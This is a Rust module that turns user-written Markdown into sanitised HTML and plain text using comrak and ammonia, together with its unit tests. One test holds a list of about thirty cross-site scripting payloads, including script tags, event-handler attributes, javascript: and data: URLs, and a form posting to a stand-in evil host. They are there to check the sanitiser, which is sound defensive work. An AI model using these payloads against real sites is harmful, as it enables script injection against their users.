//! Markdown as people write it in needs, answers and summaries.
//!
//! Two fences, one behind the other: comrak shows raw HTML as the text that was
//! typed, and ammonia lets through only what is on its list. Pictures become
//! links, since a picture from elsewhere would tell its host who reads.

use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use comrak::arena_tree::NodeEdge;
use comrak::nodes::{ListType, NodeValue};
use comrak::{Arena, Node, Options, format_html, parse_document};

/// The level of a text's first headings; those above are the page's own.
const TOP_HEADING: u8 = 3;

static SANITISER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(HashSet::from([
            "a",
            "blockquote",
            "br",
            "code",
            "del",
            "em",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "li",
            "ol",
            "p",
            "pre",
            "strong",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul",
        ]))
        .clean_content_tags(HashSet::from(["script", "style"]))
        .tag_attributes(HashMap::from([("a", HashSet::from(["href"])), ("ol", HashSet::from(["start"]))]))
        .tag_attribute_values(HashMap::from([
            ("td", HashMap::from([("align", HashSet::from(["left", "center", "right"]))])),
            ("th", HashMap::from([("align", HashSet::from(["left", "center", "right"]))])),
        ]))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("nofollow noopener ugc"));
    builder
});

fn options() -> Options<'static> {
    let mut options = Options::default();
    options.extension.table = true;
    options.extension.autolink = true;
    options.extension.strikethrough = true;
    options.render.escape = true;
    options
}

/// Markdown as safe HTML, its headings from `h3` down without leaps.
pub fn to_html(source: &str) -> String {
    let arena = Arena::new();
    let options = options();
    let root = parse_document(&arena, source, &options);

    flatten(root);
    let mut top = None;
    let mut previous = TOP_HEADING - 1;
    for node in root.descendants() {
        let mut data = node.data_mut();
        match &mut data.value {
            NodeValue::Heading(heading) => {
                // The first heading is the top one; a leap down becomes one step.
                let top = *top.get_or_insert(heading.level);
                let level = TOP_HEADING + heading.level.saturating_sub(top);
                heading.level = level.min(previous + 1).min(6);
                previous = heading.level;
            }
            NodeValue::Image(link) => {
                let link = std::mem::take(link);
                data.value = NodeValue::Link(link);
            }
            _ => {}
        }
    }

    let mut html = String::with_capacity(source.len() * 2);
    // Writing into a string can't fail; if it did, showing nothing is right.
    if format_html(root, &options, &mut html).is_err() {
        return String::new();
    }
    SANITISER.clean(&html).to_string()
}

/// Takes away quotes and emphasis nested deeper than anybody reads, keeping what
/// is in them: an HTML parser's time grows with the square of the depth, so
/// twenty thousand `>` would hold a processor for twenty seconds.
fn flatten(root: Node<'_>) {
    const MAX_DEPTH: usize = 30;
    let mut depth = 0;
    let mut too_deep = Vec::new();
    for edge in root.traverse() {
        match edge {
            NodeEdge::End(_) => depth -= 1,
            NodeEdge::Start(node) => {
                depth += 1;
                let value = &node.data().value;
                if depth > MAX_DEPTH
                    && matches!(
                        value,
                        NodeValue::BlockQuote
                            | NodeValue::Emph
                            | NodeValue::Strong
                            | NodeValue::Strikethrough
                    )
                {
                    too_deep.push(node);
                }
            }
        }
    }
    for node in too_deep {
        while let Some(child) = node.first_child() {
            node.insert_before(child);
        }
        node.detach();
    }
}

/// Markdown as plain text: paragraphs, lists and quotes keep their shape in
/// letters and line breaks, links name their address.
pub fn to_plain(source: &str) -> String {
    let arena = Arena::new();
    let root = parse_document(&arena, source, &options());
    let mut plain = Plain::default();
    for edge in root.traverse() {
        match edge {
            NodeEdge::Start(node) => plain.open(&node.data().value),
            NodeEdge::End(node) => plain.close(&node.data().value),
        }
    }
    plain.text.trim().to_owned()
}

/// The beginning of a text on one line, cut between words, with an ellipsis if
/// something follows; never more than `max_chars`.
pub fn excerpt(source: &str, max_chars: usize) -> String {
    let plain = to_plain(source).split_whitespace().collect::<Vec<_>>().join(" ");
    super::shorten(&plain, max_chars)
}

/// Plain text under way.
#[derive(Default)]
struct Plain {
    text: String,
    /// For each list around: the number of the next item, none with bullets.
    lists: Vec<Option<usize>>,
    /// For each link around: where its words began.
    links: Vec<usize>,
}

impl Plain {
    fn open(&mut self, node: &NodeValue) {
        match node {
            NodeValue::List(list) => {
                self.gap(if self.lists.is_empty() { 2 } else { 1 });
                self.lists.push((list.list_type == ListType::Ordered).then_some(list.start));
            }
            NodeValue::Item(_) => {
                self.gap(1);
                self.text.push_str(&"  ".repeat(self.lists.len().saturating_sub(1).min(6)));
                match self.lists.last_mut() {
                    Some(Some(number)) => {
                        self.text.push_str(&number.to_string());
                        self.text.push_str(". ");
                        *number += 1;
                    }
                    _ => self.text.push_str("- "),
                }
            }
            NodeValue::CodeBlock(code) => {
                self.gap(2);
                self.text.push_str(code.literal.trim_end());
            }
            NodeValue::HtmlBlock(html) => {
                self.gap(2);
                self.text.push_str(html.literal.trim_end());
            }
            NodeValue::Text(text) => self.text.push_str(text),
            NodeValue::Code(code) => self.text.push_str(&code.literal),
            NodeValue::HtmlInline(html) => self.text.push_str(html),
            NodeValue::SoftBreak => self.text.push(' '),
            NodeValue::LineBreak => self.text.push('\n'),
            NodeValue::Link(_) | NodeValue::Image(_) => self.links.push(self.text.len()),
            // A list item's mark stands on the line of its first paragraph.
            NodeValue::Paragraph | NodeValue::Heading(_) if self.lists.is_empty() => self.gap(2),
            NodeValue::Paragraph if !self.text.ends_with("- ") && !self.text.ends_with(". ") => self.gap(1),
            NodeValue::BlockQuote | NodeValue::Table(_) | NodeValue::ThematicBreak => self.gap(2),
            NodeValue::TableRow(_) => self.gap(1),
            _ => {}
        }
    }

    fn close(&mut self, node: &NodeValue) {
        match node {
            NodeValue::List(_) => {
                self.lists.pop();
            }
            NodeValue::TableCell => self.text.push_str(" | "),
            NodeValue::TableRow(_) => self.text.truncate(self.text.trim_end_matches(" | ").len()),
            NodeValue::Link(link) | NodeValue::Image(link) => {
                let start = self.links.pop().unwrap_or_default();
                let url = link.url.strip_prefix("mailto:").unwrap_or(&link.url);
                if self.text.get(start..).is_some_and(|words| words != url) && !url.is_empty() {
                    self.text.extend([" (", url, ")"]);
                }
            }
            _ => {}
        }
    }

    /// Sees to it that at least `wanted` line breaks end the text.
    fn gap(&mut self, wanted: usize) {
        let there = self.text.len() - self.text.trim_end_matches('\n').len();
        if !self.text.is_empty() {
            self.text.push_str(&"\n".repeat(wanted.saturating_sub(there)));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_markdown_becomes_html() {
        assert_eq!(to_html("Vi *søker* **råd**."), "<p>Vi <em>søker</em> <strong>råd</strong>.</p>\n");
        let table = to_html("| År | Antall |\n|---|--:|\n| 2026 | 12 |\n");
        assert!(table.contains("<th align=\"right\">Antall</th>"), "{table}");
        assert!(to_html("~~før~~").contains("<del>før</del>"));
        assert!(to_html("3. tre").contains("<ol start=\"3\">"));
    }

    #[test]
    fn headings_start_at_h3_and_never_leap() {
        assert_eq!(to_html("# A\n\n### B\n\n# C"), "<h3>A</h3>\n<h4>B</h4>\n<h3>C</h3>\n");
        assert_eq!(to_html("#### A\n\n# B"), "<h3>A</h3>\n<h3>B</h3>\n");
        assert!(to_html("# 1\n## 2\n### 3\n#### 4\n##### 5\n###### 6").contains("<h6>6</h6>"));
    }

    #[test]
    fn links_are_marked_as_not_ours() {
        let rel = "rel=\"nofollow noopener ugc\"";
        for source in
            ["[x](https://example.no)", "https://example.no", "www.example.no", "[m](mailto:a@b.no)"]
        {
            let html = to_html(source);
            assert!(html.contains(rel) && html.contains("href="), "{source}: {html}");
        }
        // A picture is offered as a link, not loaded.
        let picture = to_html("![kart](https://example.no/k.png)");
        assert!(picture.contains(">kart</a>") && !picture.contains("<img"), "{picture}");
    }

    #[test]
    fn nothing_that_runs_gets_through() {
        let attacks = [
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<style>@import 'https://evil.example'</style>",
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](javascript&#58;alert(1))",
            "[x](java\tscript:alert(1))",
            "[x](&#x6A;avascript:alert(1))",
            "[x](vbscript:msgbox)",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "![x](data:image/svg+xml,<svg onload=alert(1)>)",
            "[x](//evil.example)",
            "[x](/logout)",
            "[x](https://a.no \"\\\" onmouseover=alert(1)\")",
            "<https://a.no/\"onclick=alert(1)>",
            "<iframe src=https://evil.example></iframe>",
            "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
            "<<script>script>alert(1)<</script>/script>",
            "<scr<script>ipt>alert(1)</script>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "`<script>alert(1)</script>`",
            "```html\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
            "<div><b>\n\n<form action=//evil.example><input name=p></form>",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        ];
        for attack in attacks {
            let html = to_html(attack);
            let mut rest = html.as_str();
            while let Some(at) = rest.find('<') {
                let tag = &rest[at..=at + rest[at..].find('>').expect("a closed tag")];
                rest = &rest[at + tag.len()..];
                let name = tag.trim_start_matches(['<', '/']).split([' ', '>']).next().unwrap();
                assert!(
                    "a blockquote br code del em h3 h4 h5 h6 hr li ol p pre strong table tbody td th thead tr ul"
                        .split(' ')
                        .any(|n| n == name),
                    "{attack}: {html}"
                );
                // Inside a tag there is nothing but what the list gives.
                let attributes =
                    tag.strip_prefix(&format!("<{name}")).unwrap_or_default().trim_end_matches('>');
                let attributes = attributes.replace(" rel=\"nofollow noopener ugc\"", "");
                assert!(
                    attributes.is_empty() || attributes.starts_with(" href=\"https://a.no"),
                    "{attack}: {html}"
                );
            }
        }
    }

    #[test]
    fn deep_nesting_is_no_trap() {
        let stars = "*".repeat(9_000);
        for source in [
            format!("{}ord", ">".repeat(20_000)),
            format!("{}ord", "- ".repeat(10_000)),
            format!("{}ord", "[".repeat(20_000)),
            format!("{stars}ord{stars}"),
            "*ord ".repeat(4_000),
        ] {
            let html = to_html(&source);
            assert!(html.contains("ord") && html.len() < 30_000, "{} bytes", html.len());
            assert!(to_plain(&source).contains("ord"));
        }
    }

    #[test]
    fn plain_text_keeps_the_shape() {
        let source = "# Behov\n\nVi *trenger*\nhjelp, se [planen](https://a.no/plan).\n\n- ett\n- to\n  1. a\n  2. b\n\n\
            > sitat\n\n| År | Antall |\n|---|---|\n| 2026 | 12 |\n\nhttps://b.no";
        assert_eq!(
            to_plain(source),
            "Behov\n\nVi trenger hjelp, se planen (https://a.no/plan).\n\n- ett\n- to\n  1. a\n  2. b\n\n\
             sitat\n\nÅr | Antall\n2026 | 12\n\nhttps://b.no"
        );
        assert_eq!(to_plain("skriv til post@a.no"), "skriv til post@a.no");
        assert_eq!(to_plain("under 5 < 6 <b>&amp;"), "under 5 < 6 <b>&");
    }

    #[test]
    fn an_excerpt_ends_at_a_word() {
        assert_eq!(excerpt("## Kort\n\ntekst", 20), "Kort tekst");
        assert_eq!(excerpt("En *ganske* lang tekst om behov", 18), "En ganske lang…");
        assert!(excerpt(&"æ".repeat(50), 10).chars().count() <= 10);
    }
}
